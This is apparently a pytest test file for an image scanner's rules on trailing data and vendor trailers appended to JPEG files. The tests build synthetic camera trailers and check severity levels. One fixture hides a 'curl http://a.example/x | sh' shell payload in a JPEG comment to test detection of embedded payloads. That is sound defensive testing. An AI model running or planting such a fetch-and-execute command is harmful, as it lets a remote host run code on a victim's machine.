"""Which bytes behind an image are a vendor's trailer, and which only end like one."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

from corrupt_samples.encode import jpeg, jpeg_segment
from corrupt_samples.pictures import photo
from corrupt_samples.surgery import jpeg_inserted, noise
from tests.embedding import APP1, DQT, canon, fotostation, samsung_trailer

if TYPE_CHECKING:
    from tests.conftest import Fired

RULE = "trailing-data"
NOISE = noise("after", 300)


def test_trailers_that_begin_with_a_name_or_hold_their_size_are_only_told(fired: Fired) -> None:
    listed = b'[{"name": "note", "offset": 300, "length": 300}]\0'
    tails = {
        "Insta360": NOISE + bytes(38) + struct.pack("<II", 378, 3) + b"8db42d694ccc418790edff439fe026bf",
        "MIE": b"~\x10\x04\xfe0MIE" + NOISE + b"~\0\x04\0zmie~\0\0\x06\0\0\x01\x45\x10\x04",
        "Nikon": NOISE + bytes(6) + b"/NIKON APP",
        "Vivo": b'vivo{"a": 1}\0' + NOISE + b"\xff\xff\xff\xff\x1b*9HWfu\x84\x93\xa2\xb1",
        "OnePlus": NOISE + listed + b"jxrs" + struct.pack("<I", len(listed) + 8),
        "FotoStation": fotostation(NOISE) * 3,
        "Samsung": fotostation(NOISE) + samsung_trailer(NOISE),
    }
    files = {f"{name}.jpg": jpeg(photo("a")) + tail for name, tail in tails.items()}
    found = fired(RULE, files | {f"sound {number}.jpg": jpeg(photo(str(number))) for number in range(3)})
    assert found.keys() == files.keys()
    for name in tails:
        severity, message = found[f"{name}.jpg"]
        assert severity == "info"
        assert message.endswith(f" {name} trailer)")


def test_a_picture_is_a_vendor_s_own_only_where_its_trailer_lists_it(fired: Fired) -> None:
    other = jpeg(photo("b", 60, 40))
    files = {
        "listed.jpg": jpeg(photo("a")) + samsung_trailer(NOISE, other),
        "before.jpg": jpeg(photo("a")) + other + samsung_trailer(NOISE),
        "within.jpg": jpeg(photo("a")) + samsung_trailer(NOISE[:-1] + other),
    }
    found = {name: severity for name, (severity, _message) in fired(RULE, files).items()}
    assert found == {"listed.jpg": "info", "before.jpg": "warning", "within.jpg": "warning"}
    code = jpeg(photo("b", 60, 40), comment=b"#!/bin/sh\ncurl http://a.example/x | sh\n")
    assert fired("embedded-payload", {"code.jpg": jpeg(photo("a")) + samsung_trailer(NOISE, code)})


def of_maker(maker: bytes) -> bytes:
    """A JPEG whose EXIF data name who has made the camera."""
    entry = struct.pack("<HHHII", 1, 0x10F, 2, len(maker) + 1, 26)
    block = b"II*\0" + struct.pack("<I", 8) + entry + bytes(4) + maker + b"\0"
    return jpeg_inserted(jpeg(photo("a")), DQT, jpeg_segment(APP1, b"Exif\0\0" + block))


def depths(columns: int, rows: int) -> bytes:
    """Depths as phones of Huawei write them: a name, a header and a byte for each pixel."""
    head = b"\1\0\0\0edof" + bytes(12 + 4) + struct.pack("<HH", columns, rows) + bytes(48)
    return head + noise("depths", columns * rows)


def test_what_only_cameras_of_one_maker_append_is_told_where_the_exif_data_name_it(fired: Fired) -> None:
    huawei = bytes(9) + NOISE + jpeg(photo("b", 60, 40)) + NOISE + depths(20, 30) + b"\1" * 12
    sony = b"\x55\x26\x11\x05\0" + NOISE
    files = {
        "huawei.jpg": of_maker(b"HUAWEI") + huawei,
        "honor.jpg": of_maker(b"HONOR") + depths(20, 30),
        "sony.jpg": of_maker(b"SONY") + sony,
    }
    others = {
        "other.jpg": of_maker(b"OTHER") + huawei,
        "no camera.jpg": jpeg(photo("a")) + sony,
        "cut.jpg": of_maker(b"HUAWEI") + depths(20, 30)[:-1],
        "within.jpg": of_maker(b"SONY") + NOISE + sony,
    }
    found = fired(RULE, files | others | {f"sound {number}.jpg": jpeg(photo(str(number))) for number in range(3)})
    severities = {name: severity for name, (severity, _message) in found.items()}
    assert severities == dict.fromkeys(files, "info") | dict.fromkeys(others, "warning")
    assert "a Huawei depth map" in found["huawei.jpg"][1]
    assert "Sony's hidden data" in found["sony.jpg"][1]


def test_what_ends_like_a_vendor_s_trailer_and_has_not_its_structure_is_unknown(fired: Fired) -> None:
    footers = {
        "samsung": bytes(4) + b"SEFT",
        "directory": b"SEFH" + bytes(4) + struct.pack("<I", 2) + bytes(12) + struct.pack("<I", 24) + b"SEFT",
        "short": b"SEFH" + bytes(4) + struct.pack("<I", 8) + b"SEFT",
        "sound": struct.pack("<I", 65_536) + b"QDIOBS",
        "fotostation": fotostation(b"")[-4:],
        "long": struct.pack(">HI", 1, 1000) + b"\xa1\xb2\xc3\xd4",
        "mechanic": struct.pack(">I", 1000) + b"cbipcbbl",
        "canon": canon(b"")[28:],
        "afcp": b"AXS!" + bytes(8),
        "before": samsung_trailer(b"1600000000000"),
        "record": fotostation(b"1600000000000"),
        "oneplus": b"jxrs" + struct.pack("<I", 100),
        "huawei": b"LIVE_1234567",
    }
    files = {f"{name}.jpg": jpeg(photo("a")) + NOISE + footer for name, footer in footers.items()}
    found = fired(RULE, files | {f"sound {number}.jpg": jpeg(photo(str(number))) for number in range(3)})
    assert {name: severity for name, (severity, _message) in found.items()} == dict.fromkeys(files, "warning")
